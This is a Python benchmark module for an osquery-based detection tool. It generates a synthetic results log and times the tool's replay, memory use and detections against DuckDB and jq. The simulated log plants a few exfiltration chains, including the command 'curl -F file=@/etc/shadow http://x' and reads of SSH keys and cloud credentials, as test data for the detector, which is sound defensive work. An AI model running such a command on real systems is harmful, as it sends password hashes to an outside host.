"""``python -m bench replay``: readegress replay vs DuckDB (and jq) on one results log.

``python -m bench replay [--rows N] [--runs R] [--memory-events M] [--sections a,b,c,d]``.
The log is generated here (:func:`generate`), written under a temp dir and removed
after (``--keep`` keeps it); every contender reads the same file in the same run.
Sections: (a) ours end to end, as a library (1 and 2 jobs), through the CLI in
process and as a command (interpreter start included), the full parse without the
fast path, and the reader alone; (b) DuckDB ``read_json`` + range join doing the
same correlation (see :func:`duckdb_sql`); (c) ``jq`` select as a parse-speed floor;
(d) memory per read held by the core (1M reads in one window, in a child process:
RSS and tracemalloc) and per event in replay's sort buffer. Figures are medians
with [min-max]; rows/s is log lines over wall time; ratios are ours / DuckDB.
Targets (printed, never an exit status): >= 300k rows/s, faster than DuckDB, and
the same process-scope detections as DuckDB.

A synthetic osquery results log in event format, deterministic (seeded).

Shaped like the reference log of ``performance.md`` (~920 bytes a line, nested
decorations) and like osquery writes it (``osquery/core/query.cpp``): header
fields, decorations, the columns sorted by name, ``"action":"added"`` last, no
whitespace, strings for every value (``--logger_numerics=false``).

What happens on the simulated hosts: processes are forked by long-lived parents
(shells, cron, a CI runner, sshd), exec a program, load it (``/etc/ld.so.cache``,
libraries: open/read/close rows as ``--audit_fim_show_accesses=true`` logs them),
read /proc, NSS and locale files (``/etc/passwd`` in a fifth of them), and a third
connect somewhere: DNS on 127.0.0.53, databases and services on private addresses,
now and then a public HTTPS endpoint. A few read a catalogue file: ``ssh`` its key
and ``sshd`` shadow (approved), a backup job ~/.aws/credentials then its public
bucket, and, rarely, ``curl -F file=@/etc/shadow`` to a public address. Pids grow
per host and are never reused within the log, so a pid-only join (DuckDB) and the
core's process identity agree on "same process".

Log order is not event order: each host runs three scheduled queries
(``pack_readegress_file_events`` every 10 s, ``..._socket_events`` every 15 s,
``..._process_events`` every 20 s, with offsets), and each run logs the events
stored since its last run, with ``unixTime`` the run time.
"""

from __future__ import annotations

import argparse
import contextlib
import heapq
import io
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time as _time
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

T0 = 1_764_300_000  # 2025-11-28

HOSTS = (
    "web-01.prod.eu-west-1.example.com",
    "web-02.prod.eu-west-1.example.com",
    "db-01.prod.eu-west-1.example.com",
    "build-07.ci.example.com",
)

LIBS = (
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/usr/lib/x86_64-linux-gnu/libpthread.so.0",
    "/usr/lib/x86_64-linux-gnu/libdl.so.2",
    "/usr/lib/x86_64-linux-gnu/libm.so.6",
    "/usr/lib/x86_64-linux-gnu/libz.so.1",
    "/usr/lib/x86_64-linux-gnu/libssl.so.3",
    "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
    "/usr/lib/x86_64-linux-gnu/libselinux.so.1",
    "/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0",
    "/usr/lib/x86_64-linux-gnu/libtinfo.so.6",
    "/usr/lib/x86_64-linux-gnu/libcurl.so.4",
    "/usr/lib/x86_64-linux-gnu/libnghttp2.so.14",
    "/usr/lib/x86_64-linux-gnu/libidn2.so.0",
    "/usr/lib/x86_64-linux-gnu/libgssapi_krb5.so.2",
    "/usr/lib/x86_64-linux-gnu/libpython3.11.so.1.0",
    "/usr/lib/x86_64-linux-gnu/libffi.so.8",
    "/usr/lib/x86_64-linux-gnu/libsystemd.so.0",
    "/usr/lib/x86_64-linux-gnu/liblzma.so.5",
    "/usr/lib/locale/C.utf8/LC_CTYPE",
    "/usr/lib/python3.11/encodings/__init__.py",
)
MISC = (
    "/etc/ld.so.cache",
    "/etc/nsswitch.conf",
    "/etc/localtime",
    "/etc/host.conf",
    "/etc/resolv.conf",
    "/etc/hosts",
    "/etc/gai.conf",
    "/proc/self/maps",
    "/proc/self/status",
    "/proc/sys/kernel/random/boot_id",
    "/proc/meminfo",
    "/proc/stat",
    "/sys/fs/cgroup/cpu.max",
    "/usr/share/zoneinfo/Etc/UTC",
)

# (executable, cmdline, connect kinds): what the forked children run.
PROGRAMS = (
    ("/usr/bin/python3.11", "python3 /opt/app/worker.py --queue default", ("db", "svc", "dns")),
    ("/usr/bin/curl", "curl -fsS http://10.0.4.20:8080/healthz", ("svc",)),
    ("/usr/bin/curl", "curl -fsSL https://api.github.com/repos/acme/app/releases", ("public",)),
    ("/usr/bin/git", "git fetch origin", ("public", "dns")),
    ("/usr/bin/ls", "ls -la /var/log", ()),
    ("/usr/bin/cat", "cat /var/log/syslog", ()),
    ("/usr/bin/grep", "grep -r ERROR /var/log/app", ()),
    ("/usr/bin/date", "date +%s", ()),
    ("/usr/bin/ps", "ps aux", ()),
    ("/usr/bin/id", "id -un", ()),
    ("/usr/bin/psql", "psql -h 10.0.7.5 -c select 1", ("db",)),
    ("/usr/bin/node", "node /srv/web/server.js", ("db", "svc", "dns")),
    ("/usr/sbin/logrotate", "logrotate /etc/logrotate.conf", ()),
    ("/usr/bin/apt-get", "apt-get update", ("public", "dns")),
    ("/usr/bin/dig", "dig +short example.com", ("dns",)),
)
PARENTS = (
    (1, "/usr/lib/systemd/systemd", "/sbin/init"),
    (612, "/usr/sbin/cron", "/usr/sbin/cron -f"),
    (733, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]"),
    (2210, "/bin/bash", "-bash"),
    (4100, "/opt/runner/bin/Runner.Listener", "Runner.Listener run"),
)
PUBLIC = ("140.82.121.6", "151.101.1.69", "185.199.108.133", "52.95.110.1", "104.16.132.229")
PRIVATE = ("10.0.7.5", "10.0.4.20", "172.17.0.3", "192.168.10.12", "10.0.9.40")


@dataclass
class LogInfo:
    path: str
    lines: int = 0
    bytes: int = 0
    by_table: dict[str, int] = field(default_factory=dict)
    catalogue_reads: int = 0
    planted_chains: int = 0
    seconds: float = 0.0


@dataclass
class _Host:
    name: str
    uuid: str
    next_pid: int
    eid: dict[str, int] = field(default_factory=dict)
    counter: dict[str, int] = field(default_factory=dict)


QUERIES = (
    ("process_file_events", 10, 3),
    ("socket_events", 15, 7),
    ("process_events", 20, 11),
)


def _calendar(t: int) -> str:
    return _time.strftime("%a %b %d %H:%M:%S %Y UTC", _time.gmtime(t))


def _obj(d: dict[str, str]) -> str:
    # Values here are ASCII without quotes or backslashes: no escaping needed.
    return "{" + ",".join(f'"{k}":"{v}"' for k, v in sorted(d.items())) + "}"


def generate(path: str, rows: int, seed: int = 20251128, chain_rate: float = 0.006) -> LogInfo:
    """Write about ``rows`` lines to ``path``; returns what was written.

    ``chain_rate`` is the share of processes that read a catalogue file.
    """
    rng = random.Random(seed)
    started = _time.perf_counter()
    hosts = [
        _Host(name, f"4c4c4544-00{i}2-3910-8044-b4c04f4d37{i}{i}", 30_000 + 1000 * i)
        for i, name in enumerate(HOSTS)
    ]
    decorations = {
        h.name: _obj(
            {
                "host_uuid": h.uuid,
                "hostname": h.name.split(".")[0],
                "osquery_version": "5.23.1",
                "kernel_version": "6.1.0-41-cloud-amd64",
                "environment": "production" if "prod" in h.name else "ci",
                "region": "eu-west-1",
                "fleet_team": "platform-infrastructure",
                "instance_id": f"i-0{rng.getrandbits(60):015x}",
                "config_hash": f"{rng.getrandbits(160):040x}",
                "availability_zone": "eu-west-1b",
            }
        )
        for h in hosts
    }
    # Events pending per (host, table): (time, seq, columns-json)
    pending: dict[tuple[str, str], list[tuple[int, int, str]]] = {
        (h.name, q): [] for h in hosts for q, _, _ in QUERIES
    }
    seq = 0
    info = LogInfo(path)

    def emit(h: _Host, table: str, t: int, cols: dict[str, str]) -> None:
        nonlocal seq
        h.eid[table] = h.eid.get(table, 0) + 1
        cols["eid"] = f"{h.eid[table]:010d}"
        cols["time"] = str(t)
        cols["uptime"] = str(t - T0 + 86_000)
        seq += 1
        pending[(h.name, table)].append((t, seq, _obj(cols)))
        info.by_table[table] = info.by_table.get(table, 0) + 1

    def file_row(
        h: _Host, t: int, op: str, pid: int, ppid: int, exe: str, p: str, uid: str, cwd: str
    ) -> None:
        emit(h, "process_file_events", t, {
            "operation": op, "pid": str(pid), "ppid": str(ppid), "executable": exe,
            "partial": "0", "cwd": cwd, "path": p, "dest_path": "", "uid": uid,
            "gid": uid, "auid": "1000" if uid == "1000" else "4294967295", "euid": uid,
            "egid": uid, "fsuid": uid, "fsgid": uid, "suid": uid, "sgid": uid,
        })  # fmt: skip

    def proc_row(
        h: _Host, t: int, syscall: str, pid: int, parent: int, exe: str, cmd: str, uid: str
    ) -> None:
        emit(h, "process_events", t, {
            "pid": str(pid), "path": exe, "mode": "0100755", "cmdline": cmd,
            "cmdline_size": str(len(cmd)), "env": "", "env_count": "12", "env_size": "612",
            "cwd": "/", "auid": "1000" if uid == "1000" else "4294967295", "uid": uid,
            "euid": uid, "gid": uid, "egid": uid, "owner_uid": "0", "owner_gid": "0",
            "atime": str(t - 86_400), "mtime": "1700000000", "ctime": "1700000000",
            "btime": "0", "overflows": "", "parent": str(parent), "status": "0",
            "fsuid": uid, "suid": uid, "fsgid": uid, "sgid": uid, "syscall": syscall,
        })  # fmt: skip

    def sock_row(
        h: _Host, t: int, action: str, pid: int, exe: str, addr: str, port: int,
        status: str = "succeeded", family: str = "2",
    ) -> None:  # fmt: skip
        emit(h, "socket_events", t, {
            "action": action, "pid": str(pid), "path": exe, "fd": str(rng.randrange(3, 40)),
            "auid": "4294967295", "family": family, "protocol": "0",
            "local_address": "0.0.0.0" if action == "bind" else "",
            "remote_address": addr, "local_port": "8080" if action == "bind" else "0",
            "remote_port": str(port), "socket": "", "success": "1" if status != "failed" else "0",
            "status": status,
        })  # fmt: skip

    def load(h: _Host, t: int, pid: int, ppid: int, exe: str, uid: str, cwd: str) -> None:
        files = ["/etc/ld.so.cache", *rng.sample(LIBS, rng.randrange(4, 10))]
        files += rng.sample(MISC, rng.randrange(2, 6))
        if rng.random() < 0.2:
            files.append("/etc/passwd")
        if rng.random() < 0.1:
            files.append("/etc/group")
        for p in files:
            file_row(h, t, "open", pid, ppid, exe, p, uid, cwd)
            if rng.random() < 0.5:
                file_row(h, t, "read", pid, ppid, exe, p, uid, cwd)
            file_row(h, t, "close", pid, ppid, exe, p, uid, cwd)

    def connect(h: _Host, t: int, pid: int, exe: str, kind: str) -> None:
        if kind == "dns":
            sock_row(h, t, "connect", pid, exe, "127.0.0.53", 53)
        elif kind == "db":
            sock_row(h, t, "connect", pid, exe, rng.choice(PRIVATE), 5432)
        elif kind == "svc":
            st = "in_progress" if rng.random() < 0.3 else "succeeded"
            sock_row(h, t, "connect", pid, exe, rng.choice(PRIVATE), 8080, st)
        else:
            st = "failed" if rng.random() < 0.05 else "succeeded"
            sock_row(h, t, "connect", pid, exe, rng.choice(PUBLIC), 443, st)

    def catalogue_chain(h: _Host, t: int, ppid: int, pid: int) -> None:
        roll = rng.random()
        uid, cwd = "1000", "/home/alice"
        if roll < 0.4:  # ssh with its key: approved
            exe, key = "/usr/bin/ssh", "/home/alice/.ssh/id_ed25519"
            proc_row(h, t, "execve", pid, ppid, exe, "ssh deploy@140.82.121.6", uid)
            load(h, t, pid, ppid, exe, uid, cwd)
            file_row(h, t, "open", pid, ppid, exe, key, uid, cwd)
            file_row(h, t, "close", pid, ppid, exe, key, uid, cwd)
            sock_row(h, t + 1, "connect", pid, exe, "140.82.121.6", 22)
        elif roll < 0.6:  # sshd and PAM: approved
            exe = "/usr/sbin/sshd"
            file_row(h, t, "open", pid, ppid, exe, "/etc/shadow", "0", "/")
            file_row(h, t, "close", pid, ppid, exe, "/etc/shadow", "0", "/")
        elif roll < 0.85:  # a backup job with cloud credentials to its bucket
            exe = "/usr/bin/python3.11"
            proc_row(h, t, "execve", pid, ppid, exe, "python3 /opt/backup/run.py", "0")
            load(h, t, pid, ppid, exe, "0", "/root")
            file_row(h, t, "open", pid, ppid, exe, "/root/.aws/credentials", "0", "/root")
            file_row(h, t, "read", pid, ppid, exe, "/root/.aws/credentials", "0", "/root")
            file_row(h, t, "close", pid, ppid, exe, "/root/.aws/credentials", "0", "/root")
            sock_row(h, t + 2, "connect", pid, exe, "52.95.110.1", 443)
            info.planted_chains += 1
        else:  # curl -F file=@/etc/shadow https://...
            exe = "/usr/bin/curl"
            proc_row(h, t, "execve", pid, ppid, exe, "curl -F file=@/etc/shadow http://x", "0")
            load(h, t, pid, ppid, exe, "0", "/tmp")
            file_row(h, t, "open", pid, ppid, exe, "/etc/shadow", "0", "/tmp")
            file_row(h, t, "read", pid, ppid, exe, "/etc/shadow", "0", "/tmp")
            file_row(h, t, "close", pid, ppid, exe, "/etc/shadow", "0", "/tmp")
            sock_row(h, t + 1, "connect", pid, exe, "127.0.0.53", 53)
            sock_row(h, t + 1, "connect", pid, exe, rng.choice(PUBLIC), 8443)
            info.planted_chains += 1
        info.catalogue_reads += 1

    # Scheduled query runs, per host: (run time, host index, table).
    runs: list[tuple[int, int, str]] = []
    for hi in range(len(hosts)):
        for q, _, offset in QUERIES:
            runs.append((T0 + offset + hi, hi, q))
    heapq.heapify(runs)
    intervals = {q: iv for q, iv, _ in QUERIES}
    line_count = 0
    written = 0
    now = T0
    with open(path, "w", encoding="ascii") as out:
        while line_count < rows:
            run_t, hi, table = heapq.heappop(runs)
            # Simulate every second up to this run.
            while now < run_t:
                for h in hosts:
                    for _ in range(rng.randrange(0, 3)):
                        ppid, pexe, pcmd = rng.choice(PARENTS)
                        pid = h.next_pid
                        h.next_pid += rng.randrange(1, 4)
                        uid = "1000" if ppid == 2210 else "0"
                        cwd = "/home/alice" if uid == "1000" else "/"
                        t = now + rng.randrange(0, 2)
                        proc_row(h, t, "fork", pid, ppid, pexe, pcmd, uid)
                        if rng.random() < chain_rate:
                            catalogue_chain(h, t, ppid, pid)
                            continue
                        exe, cmd, kinds = rng.choice(PROGRAMS)
                        proc_row(h, t, "execve", pid, ppid, exe, cmd, uid)
                        load(h, t, pid, ppid, exe, uid, cwd)
                        for k in kinds:
                            if rng.random() < 0.7:
                                connect(h, t + rng.randrange(0, 3), pid, exe, k)
                    if rng.random() < 0.05:  # a server accepting, a listener binding
                        sock_row(h, now, "accept", 733, "/usr/sbin/sshd", "203.0.113.9", 51234)
                    if rng.random() < 0.02:
                        sock_row(h, now, "bind", 4100, "/usr/bin/node", "", 0)
                now += 1
            h = hosts[hi]
            h.counter[table] = h.counter.get(table, -1) + 1
            header = (
                f'{{"name":"pack_readegress_{table}","hostIdentifier":"{h.name}",'
                f'"calendarTime":"{_calendar(run_t)}","unixTime":{run_t},"epoch":0,'
                f'"counter":{h.counter[table]},"numerics":false,'
                f'"decorations":{decorations[h.name]},"columns":'
            )
            queue = pending[(h.name, table)]
            queue.sort()
            keep = []
            for t, s, cols in queue:
                if t > run_t:
                    keep.append((t, s, cols))
                    continue
                text = header + cols + ',"action":"added"}\n'
                out.write(text)
                written += len(text)
                line_count += 1
            pending[(h.name, table)] = keep
            heapq.heappush(runs, (run_t + intervals[table], hi, table))
    info.lines = line_count
    info.bytes = written
    info.seconds = _time.perf_counter() - started
    return info


# ----- the benchmark ---------------------------------------------------------
TARGET_ROWS_PER_S = 300_000


def _rate(rows: int, seconds: float) -> str:
    return f"{rows / seconds / 1000:,.0f}k" if seconds > 0 else "-"


def duckdb_sql(path: str, config: Any, approved: bool = True) -> str:
    """The same correlation in DuckDB SQL (process scope: same host and pid).

    Built from the same config: the catalogue as RE2 full-match regexes from
    readegress's own glob translation, used as ``Catalogue.match`` uses them (one
    combined regex rejects most paths, then one per class, heaviest first), only
    classes that may alert alone; the approved (executable, class) pairs excluded
    on the reader's or the sender's executable (none with ``approved=False``); a
    connect counts when it succeeded or is in progress, is AF_INET/AF_INET6 and
    goes to a public address: IPv4 by integer ranges taken from readegress's
    classifier table, IPv6 by prefix (approximate; the generated log is IPv4).
    """
    from readegress.detect.catalogue import glob_to_regex
    from readegress.net.classify import _V4_TABLE, DestinationClass

    def lit(text: str) -> str:
        return "'" + text.replace("'", "''") + "'"

    def full(globs: Sequence[str]) -> str:
        return "^(?:" + "|".join(glob_to_regex(g) for g in globs) + ")$"

    classes = config.catalogue.classes
    whens = []
    for c in classes:
        cond = f"regexp_full_match(c.path, {lit(full(c.paths))})"
        if c.exclude:
            cond += f" AND NOT regexp_full_match(c.path, {lit(full(c.exclude))})"
        whens.append(f"WHEN {cond} THEN {lit(c.name)}")
    alone = ", ".join(lit(c.name) for c in classes if c.alone)
    every = full([g for c in classes for g in c.paths])
    excluded = (
        " OR ".join(
            f"(r.cls = {lit(a.sensitive_class)} AND (r.exe = {lit(a.executable)} "
            f"OR k.exe = {lit(a.executable)}))"
            for a in (config.approved if approved else ())
        )
        or "FALSE"
    )
    local4 = " OR ".join(
        f"(n BETWEEN {int(net.network_address)} AND {int(net.broadcast_address)})"
        for net, cls in _V4_TABLE
        if cls is not DestinationClass.PUBLIC
    )
    cols = (
        "STRUCT(operation VARCHAR, pid VARCHAR, path VARCHAR, executable VARCHAR, "
        '"time" VARCHAR, action VARCHAR, remote_address VARCHAR, remote_port VARCHAR, '
        "status VARCHAR, family VARCHAR)"
    )
    return f"""
CREATE OR REPLACE MACRO ip4(a) AS
  CAST(split_part(a, '.', 1) AS BIGINT) * 16777216 + CAST(split_part(a, '.', 2) AS BIGINT) * 65536
  + CAST(split_part(a, '.', 3) AS BIGINT) * 256 + CAST(split_part(a, '.', 4) AS BIGINT);
CREATE OR REPLACE MACRO public4(n) AS NOT ({local4});
CREATE OR REPLACE MACRO is_public(a) AS CASE
  WHEN regexp_full_match(a, '[0-9]+\\.[0-9]+\\.[0-9]+\\.[0-9]+') THEN public4(ip4(a))
  WHEN lower(a) LIKE '::ffff:%.%' THEN public4(ip4(substr(a, 8)))
  ELSE a LIKE '%:%' AND NOT regexp_matches(lower(a), '^(::1?$|f[cd]|fe[89ab]|ff|2001:db8:)')
END;
WITH t AS (
  SELECT hostIdentifier AS host, columns AS c
  FROM read_json({lit(path)}, format = 'newline_delimited', columns = {{
    'hostIdentifier': 'VARCHAR', 'action': 'VARCHAR', 'columns': {lit(cols)}}})
  WHERE action IN ('added', 'snapshot')
), r AS (
  SELECT * FROM (
    SELECT host, CAST(c.pid AS BIGINT) AS pid, CAST(c."time" AS BIGINT) AS t,
           c.executable AS exe, CASE {" ".join(whens)} END AS cls
    FROM t WHERE c.operation IN ('open', 'read') AND regexp_full_match(c.path, {lit(every)})
  ) WHERE cls IN ({alone})
), k AS (
  SELECT host, CAST(c.pid AS BIGINT) AS pid, CAST(c."time" AS BIGINT) AS t, c.path AS exe,
         c.remote_address AS ra, CAST(c.remote_port AS BIGINT) AS rp
  FROM t
  WHERE c.action = 'connect' AND c.status IN ('succeeded', 'in_progress')
    AND c.family IN ('2', '10') AND is_public(c.remote_address)
)
SELECT DISTINCT r.host, r.pid, k.ra, k.rp
FROM r JOIN k ON r.host = k.host AND r.pid = k.pid AND k.t BETWEEN r.t AND r.t + 120
WHERE NOT ({excluded})
"""


def _duckdb_rows(path: str, config: Any, approved: bool = True) -> list[Any]:
    import duckdb

    con = duckdb.connect()
    *setup, query = [q for q in duckdb_sql(path, config, approved).split(";") if q.strip()]
    for q in setup:
        con.execute(q)
    return con.execute(query).fetchall()


def _memory_child(n: int, mode: str) -> None:
    """Feed ``n`` catalogue reads within one window into a Correlator; print bytes/read."""
    import tracemalloc

    from bench.procstat import status_kb
    from readegress.detect.config import load_config
    from readegress.detect.core import Correlator
    from readegress.detect.events import Proc, SensitiveRead

    config = load_config()
    config = config.__class__(**{**config.__dict__, "max_reads": n + 1000})
    corr = Correlator(config)
    paths = ("/etc/shadow", "/root/.aws/credentials", "/home/alice/.ssh/id_rsa", "/etc/passwd")
    exe = "/usr/bin/cat"

    def events() -> Any:
        for i in range(n):
            pid = 10_000 + i % 50_000
            proc = Proc(pid=pid, ppid=1000, executable=exe, uid=0, auid=1000)
            yield SensitiveRead("h", 1_764_300_000 + 100.0 * i / n, proc, paths[i % 4], "bench")

    if mode == "tracemalloc":
        tracemalloc.start()
    before_rss = status_kb(os.getpid(), "VmRSS")
    before = tracemalloc.get_traced_memory()[0] if mode == "tracemalloc" else 0
    t0 = _time.perf_counter()
    for e in events():
        corr.feed(e)
    seconds = _time.perf_counter() - t0
    out: dict[str, Any] = {"reads": corr.size()["reads"], "seconds": seconds}
    if mode == "tracemalloc":
        cur, peak = tracemalloc.get_traced_memory()
        out.update(traced=cur - before, traced_peak=peak - before)
    else:
        out.update(
            rss_kb=status_kb(os.getpid(), "VmRSS") - before_rss,
            hwm_kb=status_kb(os.getpid(), "VmHWM"),
        )
    print(json.dumps(out))


def _buffered_event_bytes(rows: list[tuple[str, dict[str, Any], str]]) -> float:
    """tracemalloc bytes per event as replay buffers it (event, Proc, source string)."""
    import tracemalloc

    from readegress.sources.osquery_rows import event_from_row

    tracemalloc.start()
    base = tracemalloc.get_traced_memory()[0]
    held = [
        event_from_row(t, r, "web-01", f"osquery-log:/tmp/x/results.log:{i}")
        for i, (t, r, _) in enumerate(rows)
    ]
    size = tracemalloc.get_traced_memory()[0] - base
    tracemalloc.stop()
    n = sum(1 for e in held if e is not None)
    return size / max(1, n)


@dataclass
class _Ours:
    dets: list[Any]
    result: Any


def _run_replay(path: str, config: Any, **kw: Any) -> _Ours:
    from readegress.logs.replay import replay

    res = replay([path], config, on_bad=lambda b: None, **kw)
    return _Ours(res.detections, res)


def _cli_in_process(path: str, extra: Sequence[str] = ()) -> None:
    from readegress import cli

    with open(os.devnull, "w") as null, contextlib.redirect_stdout(null):  # noqa: SIM117
        with contextlib.redirect_stderr(io.StringIO()):
            rc = cli.main(["replay", *extra, path])
    if rc != 0:
        raise RuntimeError(f"readegress replay exited {rc}")


def build_parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="python -m bench replay", description=__doc__.split("\n")[0])
    p.add_argument("--rows", type=int, default=300_000, help="log lines (default 300000)")
    p.add_argument("--runs", type=int, default=3, help="timed runs per measurement (default 3)")
    p.add_argument("--seed", type=int, default=20251128)
    p.add_argument(
        "--memory-events", type=int, default=1_000_000, help="reads for (d) (default 1000000)"
    )
    p.add_argument("--keep", action="store_true", help="keep the generated log")
    p.add_argument("--sections", default="a,b,c,d", help="which of a,b,c,d to run")
    return p


def main(argv: Sequence[str]) -> int:
    from bench import machine, report
    from bench.children import env_with_bench_path
    from bench.timing import Timing, ratio, repeat
    from readegress.detect.config import load_config
    from readegress.logs.results import JSON_LIBRARY

    args = build_parser().parse_args(list(argv))
    sections = {x.strip() for x in args.sections.split(",")}
    runs = max(1, min(args.runs, 20))
    machine.describe(["replay", *argv])
    config = load_config()
    tmp = tempfile.mkdtemp(prefix="readegress-bench-replay-")
    path = os.path.join(tmp, "osqueryd.results.log")
    try:
        report.heading("the log")
        info = generate(path, args.rows, seed=args.seed)
        rows = info.lines
        report.note(
            f"{rows:,} lines, {info.bytes / 1e6:.0f} MB, {info.bytes / rows:.0f} bytes a line, "
            f"written in {info.seconds:.1f} s to {path}"
        )
        report.note(
            "rows: "
            + ", ".join(f"{t} {n:,}" for t, n in sorted(info.by_table.items()))
            + f"; {info.catalogue_reads} processes read a catalogue file "
            f"({info.planted_chains} then connect to a public address)"
        )
        report.note(f"JSON library: {JSON_LIBRARY}; 4 hosts; event format, nested decorations")
        timings: dict[str, Timing] = {}
        ours_proc: set[tuple[Any, ...]] = set()
        ours_result: Any = None
        if "a" in sections:
            report.heading("(a) readegress replay, end to end (rows/s = log lines / wall time)")
            budget = 60.0
            last: list[_Ours] = []

            def fast1() -> None:
                last[:] = [_run_replay(path, config, jobs=1)]

            timings["ours, library, 1 job"] = repeat(fast1, runs=runs, budget_s=budget)
            ours_result = last[0].result
            ours_proc = {
                (d.host, d.pid, d.remote_address, d.remote_port)
                for d in last[0].dets
                if d.scope == "process"
            }
            timings["ours, library, 2 jobs"] = repeat(
                lambda: _run_replay(path, config, jobs=2), runs=runs, budget_s=budget
            )
            timings["ours, CLI in-process (auto jobs)"] = repeat(
                lambda: _cli_in_process(path), runs=runs, budget_s=budget
            )
            cmd = [sys.executable, "-m", "readegress", "replay", path]

            def cold() -> None:
                subprocess.run(
                    cmd,
                    stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL,
                    check=True,
                    env=env_with_bench_path(),
                    timeout=600,
                )

            timings["ours, CLI with interpreter start (auto jobs)"] = repeat(
                cold, runs=runs, budget_s=budget, warmup=0
            )
            # Before the fast path: every line parsed (orjson), every row an event.
            timings["ours, full parse (no fast path), 1 job"] = repeat(
                lambda: _run_replay(path, config, jobs=1, fast=False),
                runs=1,
                budget_s=budget,
                warmup=0,
                min_runs=1,
            )
            # Where the time goes: the reader alone (no events built or fed).
            from readegress.logs.results import ResultsReader

            def reader_only() -> None:
                match = config.catalogue.match
                for _ in ResultsReader().event_rows(
                    [path], keep_read=lambda p: match(p) is not None
                ):
                    pass

            timings["  reader alone (fast path, no events)"] = repeat(
                reader_only, runs=runs, budget_s=budget
            )
            rd, st = ours_result.read, ours_result.stats
            report.note(
                f"fast path: {rd.skipped:,} rows skipped (not reads), {rd.collapsed:,} reads "
                f"collapsed, {rows - rd.skipped - rd.collapsed:,} parsed; {st.events:,} events "
                f"fed (full parse: every row); {st.detections} detections "
                f"({len(ours_proc)} process scope), {st.below_threshold} below threshold"
            )
            report.note(
                f"core per event here: {ours_result.core['egress_considered']:,} egress to "
                f"public addresses scanned {ours_result.core['sensitive_reads']:,} "
                "sensitive reads in their windows"
            )
        duck_proc: set[tuple[Any, ...]] = set()
        duck_open: set[tuple[Any, ...]] = set()
        if "b" in sections:
            report.heading("(b) DuckDB: read_json + range join, same correlation, same file")
            import duckdb

            report.note(
                f"duckdb {duckdb.__version__}, threads = {os.cpu_count()}; process scope only "
                "(same host, same pid, public connect within 120 s after a catalogue read)"
            )
            report.note(
                "catalogue: RE2 regexes from readegress's globs (one combined, then one per "
                "class, heaviest first), alone-capable classes only, approved (exe, class) "
                "pairs excluded; "
                "public: IPv4 integer ranges from readegress's table"
            )
            sql = duckdb_sql(path, config)
            con = duckdb.connect()
            *setup, query = [q for q in sql.split(";") if q.strip()]
            for q in setup:
                con.execute(q)
            got: list[Any] = []
            timings["DuckDB read_json + range join"] = repeat(
                lambda: got.__setitem__(slice(None), con.execute(query).fetchall()),
                runs=runs,
                budget_s=60.0,
            )
            duck_proc = {tuple(r) for r in got}
            # Cross-check without approvals: approvals are where the two differ by
            # design (the core matches an approved image anywhere in the pid's history).
            duck_open = {tuple(r) for r in _duckdb_rows(path, config, approved=False)}
        if "c" in sections:
            report.heading("(c) jq select, parse-speed floor reference")
            jq = shutil.which("jq")
            if jq is None:
                report.note("jq not found: skipped")
            else:
                version = subprocess.run([jq, "--version"], capture_output=True, text=True).stdout
                report.note(f"{version.strip()}: jq -c 'select(.columns.action == \"connect\")'")

                def run_jq() -> None:
                    subprocess.run(
                        [jq, "-c", 'select(.columns.action == "connect")', path],
                        stdout=subprocess.DEVNULL,
                        check=True,
                        timeout=600,
                    )

                timings["jq select"] = repeat(run_jq, runs=1, budget_s=60, warmup=0, min_runs=1)
        if timings:
            report.heading("rows/s and ratios (ours / DuckDB on median wall time; < 1.00x: faster)")
            duck = timings.get("DuckDB read_json + range join")
            table_rows = []
            for name, tm in timings.items():
                r = f"{ratio(tm, duck):.2f}x" if duck is not None else "-"
                table_rows.append([name, tm.ms(), _rate(rows, tm.median), r, len(tm.runs)])
            report.table(
                ["measurement", "ms median [min-max]", "rows/s", "vs DuckDB", "runs"], table_rows
            )
        if "d" in sections:
            report.heading("(d) memory: reads held in one window")
            n = max(1000, args.memory_events)
            results = {}
            for mode in ("rss", "tracemalloc"):
                code = f"from bench.replay import _memory_child; _memory_child({n}, {mode!r})"
                proc = subprocess.run(
                    [sys.executable, "-c", code],
                    capture_output=True,
                    text=True,
                    env=env_with_bench_path(),
                    timeout=1800,
                )
                if proc.returncode != 0:
                    report.note(f"{mode} child failed: {proc.stderr.strip()[-300:]}")
                    continue
                results[mode] = json.loads(proc.stdout.strip().splitlines()[-1])
            if "rss" in results:
                r = results["rss"]
                report.note(
                    f"{r['reads']:,} reads held (max_reads raised to {n + 1000:,}): RSS grew "
                    f"{r['rss_kb'] / 1024:.0f} MiB = {r['rss_kb'] * 1024 / r['reads']:.0f} B/read, "
                    f"peak RSS {r['hwm_kb'] / 1024:.0f} MiB; fed in {r['seconds']:.1f} s "
                    f"({r['reads'] / r['seconds'] / 1000:.0f}k reads/s)"
                )
            if "tracemalloc" in results:
                r = results["tracemalloc"]
                report.note(
                    f"tracemalloc: {r['traced'] / 2**20:.0f} MiB held = "
                    f"{r['traced'] / r['reads']:.0f} B/read "
                    f"(peak {r['traced_peak'] / 2**20:.0f} MiB)"
                )
            sample = _sample_rows(path, 50_000)
            report.note(
                f"replay's sort buffer: {_buffered_event_bytes(sample):.0f} B per event waiting "
                "to be sorted (tracemalloc, event + Proc + source string)"
            )
            if ours_result is not None:
                report.note(
                    f"this log: at most {ours_result.stats.max_buffered:,} events buffered "
                    "(the whole log spans less than --max-lateness)"
                )
        if "a" in sections and "b" in sections:
            open_config = config.__class__(**{**config.__dict__, "approved": ()})
            ours_open = {
                (d.host, d.pid, d.remote_address, d.remote_port)
                for d in _run_replay(path, open_config, jobs=1).dets
                if d.scope == "process"
            }
            only_duck = duck_proc - ours_proc
            report.heading("process-scope detections, ours vs DuckDB")
            report.note(
                f"default config: ours {len(ours_proc)}, DuckDB {len(duck_proc)}, common "
                f"{len(ours_proc & duck_proc)}; only DuckDB {len(only_duck)} (of which "
                f"{len(only_duck & ours_open)} the core finds without approvals: it approved "
                "them through an image in the pid's history, e.g. curl exec'd in a process "
                "forked by sshd, approved for shadow); only ours "
                f"{len(ours_proc - duck_proc)}"
            )
            report.note(
                f"without approved jobs on both sides: ours {len(ours_open)}, DuckDB "
